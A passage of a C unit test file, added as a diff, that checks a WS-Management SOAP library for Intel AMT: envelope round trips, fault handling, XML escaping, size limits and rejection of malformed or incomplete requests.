@@ -1,0 +1,889 @@
+/* WS-Management envelopes (protocol.md section 4): client build -> device parse, device
+ * build -> client parse, faults, escaping, limits, and hostile XML. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#include <cmocka.h>
+
+#include "core/bytes.h"
+#include "wsman/amt.h"
+#include "wsman/b64.h"
+#include "wsman/soap.h"
+
+#define TO "https://192.0.2.10:16993/wsman"
+
+struct fx {
+	struct pp_wsman_call call;
+	struct pp_wsman_request req;
+	struct pp_wsman_response resp;
+	struct pp_buf buf;
+	struct pp_buf reply;
+	struct pp_err err;
+	struct pp_wsman_props props;
+	struct pp_wsman_props sel;
+};
+
+static int setup(void **state)
+{
+	struct fx *f = calloc(1, sizeof(*f));
+	if (!f)
+		return -1;
+	pp_buf_init(&f->buf, PP_WSMAN_DOC_MAX);
+	pp_buf_init(&f->reply, PP_WSMAN_DOC_MAX);
+	pp_wsman_props_init(&f->props);
+	pp_wsman_props_init(&f->sel);
+	*state = f;
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	struct fx *f = *state;
+	pp_buf_free_wipe(&f->buf);
+	pp_buf_free_wipe(&f->reply);
+	pp_wsman_request_wipe(&f->req);
+	pp_wsman_response_wipe(&f->resp);
+	pp_wsman_props_wipe(&f->props);
+	free(f);
+	return 0;
+}
+
+static const char *text(struct pp_buf *b)
+{
+	return (const char *)b->data;
+}
+
+static void assert_err_has(const struct pp_err *err, const char *needle)
+{
+	if (!strstr(err->msg, needle))
+		fail_msg("error '%s' does not mention '%s'", err->msg, needle);
+}
+
+/* ---- round trips ---- */
+
+static void test_get_roundtrip(void **state)
+{
+	struct fx *f = *state;
+	assert_int_equal(
+	    pp_wsman_props_add(&f->sel, PP_CIM_P_INSTANCE_ID, "AMT FW Core Version", &f->err), 0);
+	assert_int_equal(pp_wsman_build_get(TO, PP_CIM_URI_SOFTWARE_IDENTITY, &f->sel, &f->call,
+					    &f->buf, &f->err),
+			 0);
+	assert_int_equal(f->call.op, PP_WSMAN_OP_GET);
+	assert_string_equal(f->call.action, PP_WSMAN_ACTION_GET);
+	assert_int_equal(strncmp(f->call.message_id, "uuid:", 5), 0);
+	assert_int_equal(strlen(f->call.message_id), 41);
+	assert_non_null(strstr(text(&f->buf), "PT60S"));
+
+	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
+	assert_int_equal(f->req.op, PP_WSMAN_OP_GET);
+	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_NONE);
+	assert_string_equal(f->req.to, TO);
+	assert_string_equal(f->req.resource_uri, PP_CIM_URI_SOFTWARE_IDENTITY);
+	assert_string_equal(f->req.action, PP_WSMAN_ACTION_GET);
+	assert_string_equal(f->req.message_id, f->call.message_id);
+	assert_string_equal(f->req.operation_timeout, "PT60S");
+	assert_string_equal(f->req.body_name, "");
+	assert_int_equal(f->req.params.count, 0);
+	assert_int_equal(f->req.selectors.count, 1);
+	assert_string_equal(pp_wsman_props_get(&f->req.selectors, "InstanceID"),
+			    "AMT FW Core Version");
+
+	/* Device answers with the instance; the client checks it belongs to its call. */
+	assert_int_equal(
+	    pp_wsman_props_add(&f->props, PP_CIM_P_INSTANCE_ID, "AMT FW Core Version", &f->err), 0);
+	assert_int_equal(pp_wsman_props_add(&f->props, PP_CIM_P_VERSION_STRING, "6.2.61", &f->err),
+			 0);
+	assert_int_equal(pp_wsman_response_build(&f->req, PP_CIM_SOFTWARE_IDENTITY, &f->props,
+						 &f->reply, &f->err),
+			 0);
+	assert_int_equal(
+	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
+	assert_false(f->resp.is_fault);
+	assert_string_equal(f->resp.relates_to, f->call.message_id);
+	assert_string_equal(f->resp.action, PP_WSMAN_ACTION_GET "Response");
+	assert_string_not_equal(f->resp.message_id, f->call.message_id);
+	assert_string_equal(f->resp.body_name, PP_CIM_SOFTWARE_IDENTITY);
+	assert_int_equal(f->resp.props.count, 2);
+	assert_string_equal(pp_wsman_props_get(&f->resp.props, "VersionString"), "6.2.61");
+	assert_false(f->resp.has_return_value);
+}
+
+static void test_put_roundtrip(void **state)
+{
+	struct fx *f = *state;
+	assert_int_equal(pp_wsman_props_add(&f->props, PP_AMT_P_HOST_NAME, "pc-0042", &f->err), 0);
+	assert_int_equal(
+	    pp_wsman_props_add(&f->props, PP_AMT_P_DOMAIN_NAME, "corp.example.org", &f->err), 0);
+	assert_int_equal(pp_wsman_props_add(&f->props, PP_AMT_P_AMT_NETWORK_ENABLED, "1", &f->err),
+			 0);
+	assert_int_equal(pp_wsman_build_put(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->props,
+					    &f->call, &f->buf, &f->err),
+			 0);
+	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
+	assert_int_equal(f->req.op, PP_WSMAN_OP_PUT);
+	assert_string_equal(f->req.body_name, PP_AMT_GENERAL_SETTINGS);
+	assert_int_equal(f->req.params.count, 3);
+	for (size_t i = 0; i < 3; i++) {
+		assert_string_equal(f->req.params.item[i].name, f->props.item[i].name);
+		assert_string_equal(f->req.params.item[i].value, f->props.item[i].value);
+	}
+	assert_int_equal(f->req.selectors.count, 0);
+
+	/* PutResponse with the updated instance, and with an empty body: both accepted. */
+	assert_int_equal(pp_wsman_response_build(&f->req, PP_AMT_GENERAL_SETTINGS, &f->req.params,
+						 &f->reply, &f->err),
+			 0);
+	assert_int_equal(
+	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
+	assert_string_equal(pp_wsman_props_get(&f->resp.props, "HostName"), "pc-0042");
+	assert_int_equal(pp_wsman_response_build(&f->req, NULL, NULL, &f->reply, &f->err), 0);
+	assert_int_equal(
+	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
+	assert_string_equal(f->resp.body_name, "");
+	assert_int_equal(f->resp.props.count, 0);
+}
+
+static void test_invoke_roundtrip(void **state)
+{
+	struct fx *f = *state;
+	char pid[16], pps[48];
+	assert_int_equal(pp_b64_encode("0000037M", 8, pid, sizeof(pid), &f->err), 0);
+	assert_int_equal(
+	    pp_b64_encode("NKLDG5DCRRNQE9YZZIJL7LFLVJED69XJ", 32, pps, sizeof(pps), &f->err), 0);
+	assert_int_equal(pp_wsman_props_add(&f->props, PP_AMT_P_PID, pid, &f->err), 0);
+	assert_int_equal(pp_wsman_props_add(&f->props, PP_AMT_P_PPS, pps, &f->err), 0);
+	assert_int_equal(pp_wsman_build_invoke(TO, PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE,
+					       PP_AMT_SET_TLS_PSK, NULL, &f->props, &f->call,
+					       &f->buf, &f->err),
+			 0);
+	assert_string_equal(f->call.action,
+			    PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE "/SetTLSPSK");
+	assert_non_null(strstr(text(&f->buf), "SetTLSPSK_INPUT"));
+
+	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
+	assert_int_equal(f->req.op, PP_WSMAN_OP_INVOKE);
+	assert_string_equal(f->req.method, "SetTLSPSK");
+	assert_string_equal(f->req.body_name, "SetTLSPSK_INPUT");
+	assert_string_equal(pp_wsman_props_get(&f->req.params, "PID"), pid);
+	assert_string_equal(pp_wsman_props_get(&f->req.params, "PPS"), pps);
+
+	assert_int_equal(
+	    pp_wsman_output_build(&f->req, PP_AMT_STATUS_SUCCESS, NULL, &f->reply, &f->err), 0);
+	assert_int_equal(
+	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
+	assert_string_equal(f->resp.body_name, "SetTLSPSK_OUTPUT");
+	assert_true(f->resp.has_return_value);
+	assert_int_equal(f->resp.return_value, 0);
+	assert_string_equal(f->resp.action,
+			    PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE "/SetTLSPSKResponse");
+}
+
+static void test_invoke_no_params_and_outputs(void **state)
+{
+	struct fx *f = *state;
+	assert_int_equal(pp_wsman_build_invoke(TO, PP_AMT_URI_TIME_SYNCHRONIZATION_SERVICE,
+					       PP_AMT_GET_LOW_ACCURACY_TIME_SYNCH, NULL, NULL,
+					       &f->call, &f->buf, &f->err),
+			 0);
+	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
+	assert_string_equal(f->req.body_name, "GetLowAccuracyTimeSynch_INPUT");
+	assert_int_equal(f->req.params.count, 0);
+	assert_int_equal(pp_wsman_props_add(&f->props, PP_AMT_P_TA0, "1700000000", &f->err), 0);
+	assert_int_equal(pp_wsman_output_build(&f->req, 0x24, &f->props, &f->reply, &f->err), 0);
+	assert_int_equal(
+	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
+	assert_int_equal(f->resp.return_value, PP_AMT_STATUS_INVALID_PARAMETER);
+	assert_string_equal(pp_wsman_props_get(&f->resp.props, "Ta0"), "1700000000");
+	/* ReturnValue comes first, as AMT sends it. */
+	assert_string_equal(f->resp.props.item[0].name, "ReturnValue");
+
+	/* Output for a Get is refused. */
+	struct pp_wsman_request *get = calloc(1, sizeof(*get));
+	assert_non_null(get);
+	get->op = PP_WSMAN_OP_GET;
+	assert_true(pp_wsman_output_build(get, 0, NULL, &f->reply, &f->err) < 0);
+	free(get);
+}
+
+static void test_relates_to_mismatch(void **state)
+{
+	struct fx *f = *state;
+	struct pp_wsman_call other;
+	struct pp_buf b2;
+	pp_buf_init(&b2, PP_WSMAN_DOC_MAX);
+	assert_int_equal(
+	    pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->call, &f->buf, &f->err),
+	    0);
+	assert_int_equal(
+	    pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &other, &b2, &f->err), 0);
+	assert_string_not_equal(f->call.message_id, other.message_id);
+	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
+	assert_int_equal(
+	    pp_wsman_response_build(&f->req, PP_AMT_GENERAL_SETTINGS, NULL, &f->reply, &f->err), 0);
+	/* The answer to the first request, checked against the second: refused. */
+	assert_int_equal(
+	    pp_wsman_response_parse(&other, f->reply.data, f->reply.len, &f->resp, &f->err),
+	    -PP_EPROTO);
+	assert_err_has(&f->err, "RelatesTo");
+	assert_int_equal(f->resp.props.count, 0);
+	/* A wrong action for the right message is refused too. */
+	struct pp_wsman_call put = f->call;
+	memcpy(put.action, PP_WSMAN_ACTION_PUT, sizeof(PP_WSMAN_ACTION_PUT));
+	put.op = PP_WSMAN_OP_PUT;
+	assert_int_equal(
+	    pp_wsman_response_parse(&put, f->reply.data, f->reply.len, &f->resp, &f->err),
+	    -PP_EPROTO);
+	assert_err_has(&f->err, "wsa:Action");
+	/* And the wrong class in the body. */
+	struct pp_wsman_call cls = f->call;
+	snprintf(cls.resource_uri, sizeof(cls.resource_uri), "%s", PP_CIM_URI_SOFTWARE_IDENTITY);
+	assert_int_equal(
+	    pp_wsman_response_parse(&cls, f->reply.data, f->reply.len, &f->resp, &f->err),
+	    -PP_EPROTO);
+	assert_err_has(&f->err, "AMT_GeneralSettings");
+	pp_buf_free(&b2);
+}
+
+/* ---- faults ---- */
+
+static void test_faults_roundtrip(void **state)
+{
+	struct fx *f = *state;
+	static const struct {
+		enum pp_wsman_fault fault;
+		const char *name;
+		int http;
+	} cases[] = {
+	    {PP_WSMAN_FAULT_ACCESS_DENIED, "wsman:AccessDenied", 400},
+	    {PP_WSMAN_FAULT_ACTION_NOT_SUPPORTED, "wsa:ActionNotSupported", 400},
+	    {PP_WSMAN_FAULT_INVALID_PARAMETER, "wsman:InvalidParameter", 400},
+	    {PP_WSMAN_FAULT_DESTINATION_UNREACHABLE, "wsa:DestinationUnreachable", 400},
+	    {PP_WSMAN_FAULT_INVALID_HEADER, "wsa:InvalidMessageInformationHeader", 400},
+	    {PP_WSMAN_FAULT_ENCODING_LIMIT, "wsman:EncodingLimit", 400},
+	    {PP_WSMAN_FAULT_SCHEMA_VALIDATION, "wsman:SchemaValidationError", 400},
+	    {PP_WSMAN_FAULT_INTERNAL_ERROR, "wsman:InternalError", 500},
+	};
+	assert_int_equal(pp_wsman_build_invoke(TO, PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE,
+					       PP_AMT_COMMIT_CHANGES, NULL, NULL, &f->call, &f->buf,
+					       &f->err),
+			 0);
+	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		int status = 0;
+		assert_int_equal(pp_wsman_fault_build(&f->req, cases[i].fault, NULL, &f->reply,
+						      &status, &f->err),
+				 0);
+		assert_int_equal(status, cases[i].http);
+		assert_int_equal(pp_wsman_fault_http_status(cases[i].fault), cases[i].http);
+		assert_string_equal(pp_wsman_fault_name(cases[i].fault), cases[i].name);
+		assert_int_equal(pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len,
+							 &f->resp, &f->err),
+				 -PP_EPROTO);
+		assert_true(f->resp.is_fault);
+		assert_int_equal(f->resp.fault, cases[i].fault);
+		assert_string_equal(f->resp.fault_subcode, cases[i].name);
+		assert_string_equal(f->resp.relates_to, f->call.message_id);
+		assert_true(strlen(f->resp.fault_reason) > 10);
+		assert_err_has(&f->err, cases[i].name);
+	}
+
+	/* A custom reason with markup in it; no request (no RelatesTo) is still a fault. */
+	assert_int_equal(pp_wsman_fault_build(NULL, PP_WSMAN_FAULT_ACCESS_DENIED,
+					      "state <In-Setup> & not \"Post\"", &f->reply, NULL,
+					      &f->err),
+			 0);
+	assert_null(strstr(text(&f->reply), "RelatesTo"));
+	assert_int_equal(
+	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err),
+	    -PP_EPROTO);
+	assert_true(f->resp.is_fault);
+	assert_string_equal(f->resp.fault_reason, "state <In-Setup> & not \"Post\"");
+	assert_int_equal(
+	    pp_wsman_fault_build(NULL, PP_WSMAN_FAULT_NONE, NULL, &f->reply, NULL, &f->err),
+	    -PP_EINVAL);
+}
+
+static const char fault_other_prefix[] =
+    "<?xml version=\"1.0\"?>"
+    "<e:Envelope xmlns:e=\"http://www.w3.org/2003/05/soap-envelope\""
+    " xmlns:a=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\""
+    " xmlns:w=\"http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\">"
+    "<e:Header><a:RelatesTo>%s</a:RelatesTo>"
+    "<a:Action>http://schemas.dmtf.org/wbem/wsman/1/wsman/fault</a:Action></e:Header>"
+    "<e:Body><e:Fault><e:Code><e:Value>e:Sender</e:Value>"
+    "<e:Subcode><e:Value>w:%s</e:Value></e:Subcode></e:Code>"
+    "<e:Reason><e:Text xml:lang=\"en-US\">%s</e:Text></e:Reason>"
+    "<e:Detail><w:FaultDetail>x</w:FaultDetail></e:Detail></e:Fault></e:Body></e:Envelope>";
+
+static void test_fault_prefixes_and_reason(void **state)
+{
+	struct fx *f = *state;
+	char doc[4096], reason[700];
+	assert_int_equal(
+	    pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->call, &f->buf, &f->err),
+	    0);
+	/* Other prefixes for the same namespaces: classified by namespace. */
+	snprintf(doc, sizeof(doc), fault_other_prefix, f->call.message_id, "AccessDenied", "no");
+	assert_int_equal(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err),
+			 -PP_EPROTO);
+	assert_int_equal(f->resp.fault, PP_WSMAN_FAULT_ACCESS_DENIED);
+	assert_string_equal(f->resp.fault_subcode, "wsman:AccessDenied");
+	/* Unknown subcode: kept as sent. */
+	snprintf(doc, sizeof(doc), fault_other_prefix, f->call.message_id, "Concurrency", "busy");
+	assert_int_equal(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err),
+			 -PP_EPROTO);
+	assert_int_equal(f->resp.fault, PP_WSMAN_FAULT_OTHER);
+	assert_string_equal(f->resp.fault_subcode, "w:Concurrency");
+	/* A long reason is cut on a character boundary (2-byte UTF-8 "é" everywhere). */
+	size_t n = 0;
+	reason[n++] = 'x';
+	while (n + 2 < 690) {
+		reason[n++] = (char)0xC3;
+		reason[n++] = (char)0xA9;
+	}
+	reason[n] = '\0';
+	snprintf(doc, sizeof(doc), fault_other_prefix, f->call.message_id, "AccessDenied", reason);
+	assert_int_equal(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err),
+			 -PP_EPROTO);
+	assert_int_equal(strlen(f->resp.fault_reason), PP_WSMAN_REASON_MAX - 1);
+	assert_true(pp_wsman_text_valid(f->resp.fault_reason, strlen(f->resp.fault_reason)));
+	/* A fault about another message is not ours. */
+	snprintf(doc, sizeof(doc), fault_other_prefix, "uuid:someone-else", "AccessDenied", "no");
+	assert_int_equal(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err),
+			 -PP_EPROTO);
+	assert_false(f->resp.is_fault);
+	/* Peer text in the message stays one printable line. */
+	snprintf(doc, sizeof(doc), fault_other_prefix, "uuid:a&#10;b\xc3\xa9", "AccessDenied",
+		 "no");
+	assert_int_equal(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err),
+			 -PP_EPROTO);
+	assert_err_has(&f->err, "uuid:a b??");
+	assert_int_equal(f->resp.fault, PP_WSMAN_FAULT_NONE);
+	assert_string_equal(f->resp.fault_subcode, "");
+	assert_err_has(&f->err, "RelatesTo");
+}
+
+/* ---- escaping ---- */
+
+static void test_escaping_roundtrip(void **state)
+{
+	struct fx *f = *state;
+	static const char *const values[] = {
+	    "<&>\"'",
+	    "a<b>c&d;e\"f'g",
+	    "&amp; stays &amp;",
+	    "]]> and <![CDATA[x]]>",
+	    "<!-- not a comment -->",
+	    "tab\tnewline\ncarriage\rreturn",
+	    "  spaces kept  ",
+	    "unicode: \xc3\xa9\xe2\x82\xac\xf0\x9f\x94\x91",
+	    "",
+	};
+	size_t nv = sizeof(values) / sizeof(values[0]);
+	for (size_t i = 0; i < nv; i++) {
+		char name[16];
+		snprintf(name, sizeof(name), "P%zu", i);
+		assert_int_equal(pp_wsman_props_add(&f->props, name, values[i], &f->err), 0);
+	}
+	assert_int_equal(pp_wsman_props_add(&f->sel, "Name", "<&>\"'", &f->err), 0);
+	assert_int_equal(pp_wsman_build_invoke(TO, PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE,
+					       PP_AMT_SET_MEBX_PASSWORD, &f->sel, &f->props,
+					       &f->call, &f->buf, &f->err),
+			 0);
+	/* Nothing raw: the markup characters of the values appear only escaped. */
+	assert_null(strstr(text(&f->buf), "a<b>"));
+	assert_null(strstr(text(&f->buf), "c&d;"));
+	assert_null(strstr(text(&f->buf), "<!-- not"));
+	assert_non_null(strstr(text(&f->buf), "&lt;&amp;&gt;"));
+	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
+	assert_int_equal(f->req.params.count, nv);
+	for (size_t i = 0; i < nv; i++)
+		assert_string_equal(f->req.params.item[i].value, values[i]);
+	assert_string_equal(pp_wsman_props_get(&f->req.selectors, "Name"), "<&>\"'");
+
+	/* And back from the device. */
+	assert_int_equal(pp_wsman_output_build(&f->req, 0, &f->req.params, &f->reply, &f->err), 0);
+	assert_int_equal(
+	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
+	for (size_t i = 0; i < nv; i++)
+		assert_string_equal(f->resp.props.item[i + 1].value, values[i]);
+}
+
+static void test_props_limits(void **state)
+{
+	struct fx *f = *state;
+	char big[PP_WSMAN_VALUE_MAX + 2];
+	memset(big, 'v', sizeof(big) - 1);
+	big[sizeof(big) - 1] = '\0';
+	assert_int_equal(pp_wsman_props_add(&f->props, "Big", big, &f->err), -PP_ETOOBIG);
+	assert_err_has(&f->err, "Big");
+	big[PP_WSMAN_VALUE_MAX] = '\0';
+	assert_int_equal(pp_wsman_props_add(&f->props, "Big", big, &f->err), 0);
+	pp_wsman_props_wipe(&f->props);
+	assert_int_equal(f->props.count, 0);
+
+	assert_int_equal(pp_wsman_props_add(&f->props, "Ctl", "a\x01z", &f->err), -PP_EINVAL);
+	assert_int_equal(pp_wsman_props_add(&f->props, "Utf", "\xc3\x28", &f->err), -PP_EINVAL);
+	assert_int_equal(pp_wsman_props_add(&f->props, "Over", "\xc0\xaf", &f->err), -PP_EINVAL);
+	assert_int_equal(pp_wsman_props_add(&f->props, "Sur", "\xed\xa0\x80", &f->err), -PP_EINVAL);
+	assert_int_equal(pp_wsman_props_add(&f->props, "FFFE", "\xef\xbf\xbe", &f->err),
+			 -PP_EINVAL);
+	assert_int_equal(pp_wsman_props_addn(&f->props, "Nul", "a\0b", 3, &f->err), -PP_EINVAL);
+	assert_int_equal(pp_wsman_props_add(&f->props, "1bad", "x", &f->err), -PP_EINVAL);
+	assert_int_equal(pp_wsman_props_add(&f->props, "a:b", "x", &f->err), -PP_EINVAL);
+	assert_int_equal(pp_wsman_props_add(&f->props, "", "x", &f->err), -PP_EINVAL);
+	for (int i = 0; i < PP_WSMAN_PROPS_MAX; i++)
+		assert_int_equal(pp_wsman_props_add(&f->props, "Realms", "x", &f->err), 0);
+	assert_int_equal(pp_wsman_props_add(&f->props, "Realms", "x", &f->err), -PP_ETOOBIG);
+
+	/* Output ceiling: a small pp_buf refuses the envelope. */
+	struct pp_buf small;
+	pp_buf_init(&small, 200);
+	assert_int_equal(pp_wsman_build_put(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->props,
+					    &f->call, &small, &f->err),
+			 -PP_ETOOBIG);
+	pp_buf_free(&small);
+
+	/* A hand-made list that bypassed pp_wsman_props_add is checked before sending. */
+	pp_wsman_props_wipe(&f->props);
+	f->props.count = 1;
+	snprintf(f->props.item[0].name, sizeof(f->props.item[0].name), "Ok");
+	snprintf(f->props.item[0].value, sizeof(f->props.item[0].value), "bad\x02");
+	assert_int_equal(pp_wsman_build_put(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->props,
+					    &f->call, &f->buf, &f->err),
+			 -PP_EINVAL);
+	assert_int_equal(pp_wsman_build_invoke(TO, PP_AMT_URI_GENERAL_SETTINGS, "bad/method", NULL,
+					       NULL, &f->call, &f->buf, &f->err),
+			 -PP_EINVAL);
+	/* Names that would not fit are refused, never cut short. */
+	char uri[256], method[PP_WSMAN_NAME_MAX + 1];
+	memset(method, 'M', PP_WSMAN_NAME_MAX - 3);
+	method[PP_WSMAN_NAME_MAX - 3] = '\0';
+	snprintf(uri, sizeof(uri), "%s%s", PP_AMT_SCHEMA, method);
+	assert_int_equal(pp_wsman_build_put(TO, uri, NULL, NULL, &f->call, &f->buf, &f->err), 0);
+	assert_int_equal(
+	    pp_wsman_build_invoke(TO, uri, method, NULL, NULL, &f->call, &f->buf, &f->err),
+	    -PP_EINVAL);
+	assert_err_has(&f->err, "at most 64 bytes");
+	snprintf(uri, sizeof(uri), "%s%sMMMM", PP_AMT_SCHEMA, method);
+	assert_int_equal(pp_wsman_build_put(TO, uri, NULL, NULL, &f->call, &f->buf, &f->err),
+			 -PP_EINVAL);
+	assert_int_equal(
+	    pp_wsman_build_put(TO, PP_AMT_SCHEMA, NULL, NULL, &f->call, &f->buf, &f->err),
+	    -PP_EINVAL);
+	assert_int_equal(pp_wsman_build_get("has space", PP_AMT_URI_GENERAL_SETTINGS, NULL,
+					    &f->call, &f->buf, &f->err),
+			 -PP_EINVAL);
+}
+
+/* ---- hand-written requests ---- */
+
+#define NS_DECL                                                                                    \
+	" xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\""                                     \
+	" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\""                          \
+	" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\""
+#define H_ACTION "<wsa:Action>" PP_WSMAN_ACTION_GET "</wsa:Action>"
+#define H_TO "<wsa:To>/wsman</wsa:To>"
+#define H_URI "<wsman:ResourceURI>" PP_AMT_URI_GENERAL_SETTINGS "</wsman:ResourceURI>"
+#define H_ID "<wsa:MessageID>uuid:00000000-8086-0000-0000-000000000001</wsa:MessageID>"
+#define H_REPLY "<wsa:ReplyTo><wsa:Address>" PP_WSMAN_ANONYMOUS "</wsa:Address></wsa:ReplyTo>"
+
+static char doc_buf[8192];
+
+static const char *get_doc(const char *headers, const char *body)
+{
+	snprintf(doc_buf, sizeof(doc_buf),
+		 "<?xml version=\"1.0\" encoding=\"UTF-8\"?><s:Envelope" NS_DECL
+		 "><s:Header>%s</s:Header><s:Body>%s</s:Body></s:Envelope>",
+		 headers, body);
+	return doc_buf;
+}
+
+static int parse_doc(struct fx *f, const char *doc)
+{
+	return pp_wsman_request_parse(doc, strlen(doc), &f->req, &f->err);
+}
+
+static void test_missing_headers(void **state)
+{
+	struct fx *f = *state;
+	static const struct {
+		const char *headers;
+		const char *missing;
+	} cases[] = {
+	    {H_TO H_URI H_ID H_REPLY, "wsa:Action"},
+	    {H_ACTION H_URI H_ID H_REPLY, "wsa:To"},
+	    {H_ACTION H_TO H_ID H_REPLY, "wsman:ResourceURI"},
+	    {H_ACTION H_TO H_URI H_REPLY, "wsa:MessageID"},
+	    {H_ACTION H_TO H_URI H_ID, "wsa:ReplyTo"},
+	};
+	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_ID H_REPLY, "")), 0);
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		assert_int_equal(parse_doc(f, get_doc(cases[i].headers, "")), -PP_EINVAL);
+		assert_err_has(&f->err, cases[i].missing);
+		assert_err_has(&f->err, "missing");
+		assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_HEADER);
+		/* The MessageID, when present, is kept so the fault can relate to it. */
+		if (strcmp(cases[i].missing, "wsa:MessageID") != 0)
+			assert_string_equal(f->req.message_id,
+					    "uuid:00000000-8086-0000-0000-000000000001");
+	}
+	/* The fault for a request without a MessageID has no RelatesTo. */
+	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_REPLY, "")), -PP_EINVAL);
+	assert_int_equal(
+	    pp_wsman_fault_build(&f->req, f->req.fault, NULL, &f->reply, NULL, &f->err), 0);
+	assert_null(strstr(text(&f->reply), "RelatesTo"));
+
+	/* No s:Header at all, an empty header, a duplicated header. */
+	snprintf(doc_buf, sizeof(doc_buf), "<s:Envelope" NS_DECL "><s:Body/></s:Envelope>");
+	assert_int_equal(parse_doc(f, doc_buf), -PP_EINVAL);
+	assert_err_has(&f->err, "s:Header is missing");
+	assert_int_equal(
+	    parse_doc(f,
+		      get_doc(H_ACTION H_TO H_URI H_REPLY "<wsa:MessageID>  </wsa:MessageID>", "")),
+	    -PP_EINVAL);
+	assert_err_has(&f->err, "empty");
+	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_ACTION H_TO H_URI H_ID H_REPLY, "")),
+			 -PP_EINVAL);
+	assert_err_has(&f->err, "twice");
+	/* No s:Body. */
+	snprintf(doc_buf, sizeof(doc_buf),
+		 "<s:Envelope" NS_DECL "><s:Header>" H_ACTION H_TO H_URI H_ID H_REPLY
+		 "</s:Header></s:Envelope>");
+	assert_int_equal(parse_doc(f, doc_buf), -PP_EINVAL);
+	assert_err_has(&f->err, "s:Body is missing");
+}
+
+static void test_header_rules(void **state)
+{
+	struct fx *f = *state;
+	/* Pretty-printed, MeshCommander-style (default namespace, MessageID "1"). */
+	static const char pretty[] =
+	    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
+	    "<Envelope xmlns=\"http://www.w3.org/2003/05/soap-envelope\"\n"
+	    "   xmlns:a=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\"\n"
+	    "   xmlns:w=\"http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\">\n"
+	    " <Header>\n"
+	    "  <a:Action>\n   " PP_WSMAN_ACTION_GET "\n  </a:Action>\n"
+	    "  <a:To>/wsman</a:To>\n"
+	    "  <w:ResourceURI>" PP_AMT_URI_GENERAL_SETTINGS "</w:ResourceURI>\n"
+	    "  <a:MessageID>1</a:MessageID>\n"
+	    "  <a:ReplyTo><a:Address>" PP_WSMAN_ANONYMOUS "</a:Address></a:ReplyTo>\n"
+	    "  <w:OperationTimeout>PT60S</w:OperationTimeout>\n"
+	    "  <w:MaxEnvelopeSize Envelope:mustUnderstand=\"true\""
+	    " xmlns:Envelope=\"http://www.w3.org/2003/05/soap-envelope\">51200</"
+	    "w:MaxEnvelopeSize>\n"
+	    "  <w:Locale xml:lang=\"en-US\" Envelope:mustUnderstand=\"false\""
+	    " xmlns:Envelope=\"http://www.w3.org/2003/05/soap-envelope\"/>\n"
+	    " </Header>\n"
+	    " <Body/>\n"
+	    "</Envelope>\n";
+	assert_int_equal(parse_doc(f, pretty), 0);
+	assert_string_equal(f->req.action, PP_WSMAN_ACTION_GET);
+	assert_string_equal(f->req.message_id, "1");
+
+	/* An unknown header that must be understood is refused; optional ones are not. */
+	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_ID H_REPLY
+					      "<x:Y xmlns:x=\"urn:x\" s:mustUnderstand=\"true\"/>",
+					      "")),
+			 -PP_EINVAL);
+	assert_err_has(&f->err, "must be understood");
+	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_ID H_REPLY
+					      "<x:Y xmlns:x=\"urn:x\" s:mustUnderstand=\"false\"/>",
+					      "")),
